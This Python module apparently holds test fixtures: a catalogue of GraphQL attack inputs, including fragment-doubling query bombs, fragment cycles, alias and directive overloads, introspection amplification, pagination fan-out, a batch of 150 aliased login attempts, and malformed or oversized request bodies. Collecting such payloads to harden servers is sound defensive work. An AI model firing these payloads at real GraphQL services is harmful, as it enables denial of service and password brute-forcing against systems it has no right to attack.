"""What attackers send: documents and bodies from published attacks on GraphQL servers, each small, each once expensive."""

import json

LOGIN = 'login(input: {email: "a@b.example", password: "wrong-password"}) { __typename }'


def doubling(levels: int, leaf: str, alias: bool = False, on: str = "Query") -> str:
    """Fragments that each spread the next one twice: 2^levels fields in a few hundred bytes."""
    name = "x{0}: __typename" if alias else ""
    parts = [f"fragment f{n} on {on} {{ {name.format(n)} ...f{n + 1} ...f{n + 1} }}" for n in range(levels)]
    return "{ ...f0 } " + " ".join(parts) + f" fragment f{levels} on {on} {{ {leaf} }}"


def chain(length: int) -> str:
    parts = [f"fragment f{n} on Query {{ ...f{n + 1} }}" for n in range(length)]
    return "{ ...f0 } " + " ".join(parts) + f" fragment f{length} on Query {{ __typename }}"


def nested(levels: int) -> str:
    return "{ projects { nodes " + "{ members { nodes " * levels + "{ id }" + " } }" * levels + " } }"


def tree(levels: int, width: int) -> str:
    """Aliased fragments doubling below a list."""
    parts = [
        f"fragment g{n} on Project {{ " + " ".join(f"a{n}x{w}: members {{ ...g{n + 1} }}" for w in range(width)) + " }"
        for n in range(levels)
    ]
    return "{ projects { nodes { ...g0 } } } " + " ".join(parts) + f" fragment g{levels} on Project {{ id }}"


DOCUMENTS: dict[str, str] = {
    "101 aliases": "{ " + " ".join(f"a{n}: __typename" for n in range(101)) + " }",
    "600 aliases": "{ " + " ".join(f"a{n}: __typename" for n in range(600)) + " }",
    "1000 aliased queries": "{ " + " ".join(f"a{n}: me {{ id }}" for n in range(1000)) + " }",
    "31 aliases deep": "{ projects { nodes { " + " ".join(f"a{n}: id" for n in range(31)) + " } } }",
    "500 typenames": "{ " + "__typename " * 500 + "}",
    "duplicate fields": "{ " + "me { id } " * 500 + "}",
    "duplicate deep fields": "{ projects { nodes { " + "id " * 900 + "} } }",
    "duplicate nested": "{ projects { " + "nodes { members { nodes { id } } } " * 150 + "} }",
    "merge bomb": "{ projects { " + "nodes { id name ...f } " * 60 + "} } fragment f on Project { id name role }",
    "directive overload": "{ __typename " + "@aa " * 10 + "}",
    "1000 unknown directives": "{ __typename " + "@a" * 1000 + " }",
    "21 skips": "{ __typename " + "@skip(if: false) " * 21 + "}",
    "directives in fragments": "{ ...f ...f ...f } fragment f on Query { __typename " + "@skip(if: false) " * 8 + "}",
    "doubling 14": doubling(14, "__typename"),
    "doubling 22": doubling(22, "__typename"),
    "doubling 40": doubling(40, "__typename"),
    "doubling of nothing": doubling(40, ""),
    "doubling aliases 14": doubling(14, "a: __typename", alias=True),
    "doubling aliases 18": doubling(18, "a: __typename", alias=True),
    "doubling aliases 40": doubling(40, "a: __typename", alias=True),
    "doubling introspection": doubling(20, "__schema { types { name } }"),
    "doubling in a type": "{ __schema { types { ...f0 } } } "
    + " ".join(f"fragment f{n} on __Type {{ ofType {{ ...f{n + 1} }} interfaces {{ ...f{n + 1} }} }}" for n in range(18))
    + " fragment f18 on __Type { name }",
    "tree 6x2": tree(6, 2),
    "tree 10x3": tree(10, 3),
    "chain 40": chain(40),
    "chain 60": chain(60),
    "chain 300": chain(300),
    "cycle": "{ ...a } fragment a on Query { ...b } fragment b on Query { ...a }",
    "cycle in fields": "{ projects { nodes { ...a } } } fragment a on Project { members { nodes { ...a } } }",
    "self": "{ ...a } fragment a on Query { ...a }",
    "unknown fragment": "{ ...nothing }",
    "fragment twice": "{ ...a } fragment a on Query { __typename } fragment a on Query { __typename }",
    "unused fragments": "{ __typename } " + " ".join(f"fragment f{n} on Query {{ __typename }}" for n in range(40)),
    "51 fragments": "{ __typename } " + " ".join(f"fragment f{n} on Query {{ __typename }}" for n in range(51)),
    "depth 13": nested(6),
    "depth 100": nested(50),
    "braces 190": "{" + "a{" * 190 + "b" + "}" * 190 + "}",
    "braces 600": "{" + "a{" * 600 + "b" + "}" * 600 + "}",
    "braces 9000": "{" * 9_000,
    "inline fragments 190": "{" + "...{" * 190 + "__typename" + "}" * 190 + "}",
    "nested list value": "{ projects(filter: " + "[" * 400 + "]" * 400 + ") { totalCount } }",
    "nested object value": "{ projects(filter: " + "{a:" * 300 + "1" + "}" * 300 + ") { totalCount } }",
    "nested list type": "query($a: " + "[" * 300 + "Int" + "]" * 300 + ") { __typename }",
    "circular introspection": "{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }",
    "introspection in introspection": "{ __schema { types { fields { type { fields { type { name } } } } } } }",
    "30 schemas": "{ " + " ".join(f"a{n}: __schema {{ types {{ name fields {{ name }} }} }}" for n in range(30)) + " }",
    "aliases in the schema": "{ __schema { " + " ".join(f"a{n}: types {{ name }}" for n in range(25)) + " } }",
    "deep ofType": "{ __schema { types { " + "ofType { " * 25 + "name" + " }" * 25 + " } } }",
    "fan-out": "{ projects(first: 500) { nodes { members(first: 500) { nodes { id } } } } }",
    "fan-out by default": "{ projects { nodes { members { nodes { id } } timeline { nodes { id } } } "
    "edges { node { members { nodes { id } } } } } }",
    "fan-out by variable": "query($n: Int = 500) { projects(first: $n) { nodes { timeline(first: $n) { nodes { id } } } } }",
    "fan-out of fragments": "{ projects(first: 400) { ...a ...b } } fragment a on ProjectConnection { nodes { ...m } } "
    "fragment b on ProjectConnection { edges { node { ...m } } } fragment m on Project { members(first: 400) { nodes { id } } }",
    "huge page": "{ projects(first: 99999999999999999999) { totalCount } }",
    "300 logins": "mutation { " + " ".join(f"a{n}: {LOGIN}" for n in range(150)) + " }",
    "2 logins": f"mutation {{ a: {LOGIN} b: {LOGIN} }}",
    "logins in a fragment": f"mutation {{ {LOGIN} ...f }} fragment f on Mutation {{ b: {LOGIN} }}",
    "21 root fields": "{ " + "__typename " * 10 + "...f } fragment f on Query { " + "__typename " * 11 + "}",
    "two operations": "query a { __typename } query b { __typename }",
    "11 operations": " ".join(f"query q{n} {{ __typename }}" for n in range(11)),
    "two anonymous": "{ __typename } { __typename }",
    "101 variables": "query(" + " ".join(f"$v{n}: Int" for n in range(101)) + ") { __typename }",
    "60 comments": "# x\n" * 60 + "{ __typename }",
    "20k of blanks": " " * 20_001 + "{ __typename }",
    "long string": '{ project(id: "' + "x" * 19_000 + '") { id } }',
    "very long string": '{ project(id: "' + "x" * 900_000 + '") { id } }',
    "long number": "{ projects(first: " + "9" * 5_000 + ") { totalCount } }",
    "schema definition": "type Query { a: Int }",
    "extension": "extend type Query { a: Int } { __typename }",
    "empty selection": "{ }",
    "nothing": " ",
    "a comment": "# nothing",
    "NUL": "{ __typename \0 }",
    "lone surrogate": '{ project(id: "\\uD800") { id } }',
    "defer": "{ projects { nodes { ... @defer { id } } } }",
    "unknown fields": "{ " + " ".join(f"nothing{n}" for n in range(400)) + " }",
    "unknown arguments": "{ projects(" + " ".join(f"a{n}: 1" for n in range(300)) + ") { totalCount } }",
    "conflicts": "{ projects { "
    + " ".join(f"a: {name}" for name in ("nodes { id }", "edges { cursor }", "totalCount") * 30)
    + " } }",
}

BODIES: dict[str, bytes] = {
    "null": b"null",
    "number": b"1",
    "string": b'"x"',
    "true": b"true",
    "empty": b"",
    "blank": b"  ",
    "array": b"[]",
    "batch": b'[{"query": "{ __typename }"}, {"query": "{ __typename }"}]',
    "batch of nothing": b"[null]",
    "invalid utf-8": b'{"query": "\xff\xfe"}',
    "bom": b'\xef\xbb\xbf{"query": "{ __typename }"}',
    "utf-16": '{"query": "{ __typename }"}'.encode("utf-16"),
    "100000 brackets": b"[" * 100_000,
    "50000 objects": b'{"a":' * 50_000,
    "deep variables": b'{"query": "{ __typename }", "variables": ' + b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"}",
    "40 levels": b'{"query": "{ __typename }", "variables": ' + b'{"a":' * 40 + b"1" + b"}" * 40 + b"}",
    "long integer": b'{"query": "{ __typename }", "variables": {"a": ' + b"9" * 5_000 + b"}}",
    "NaN": b'{"query": "{ __typename }", "variables": {"a": NaN}}',
    "infinity": b'{"query": "{ __typename }", "variables": {"a": -Infinity}}',
    "trailing": b'{"query": "{ __typename }"} x',
    "single quotes": b"{'query': '{ __typename }'}",
    "lone surrogate": b'{"query": "\\ud800"}',
    "no query": b"{}",
    "query null": b'{"query": null}',
    "query number": b'{"query": 1}',
    "query list": b'{"query": ["{ __typename }"]}',
    "query object": b'{"query": {}}',
    "query empty": b'{"query": ""}',
    "variables string": b'{"query": "{ __typename }", "variables": "{}"}',
    "variables list": b'{"query": "{ __typename }", "variables": []}',
    "variables number": b'{"query": "{ __typename }", "variables": 1}',
    "name number": b'{"query": "{ __typename }", "operationName": 1}',
    "name unknown": b'{"query": "{ __typename }", "operationName": "x"}',
    "extensions list": b'{"query": "{ __typename }", "extensions": []}',
    "persisted": b'{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abc"}}}',
    "persisted nonsense": b'{"extensions": 7}',
    "document id": b'{"documentId": "sha256:abc"}',
    "a million numbers": b'{"query": "query($a: [Int]) { __typename }", "variables": {"a": [' + b"1," * 400_000 + b"1]}}",
    "form": b"query=%7B__typename%7D",
    "multipart": b'--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"{__typename}"}\r\n--x--',
    "subscription": json.dumps({"query": 'subscription { jobEvents(jobId: "x") { seq } }'}).encode(),
}
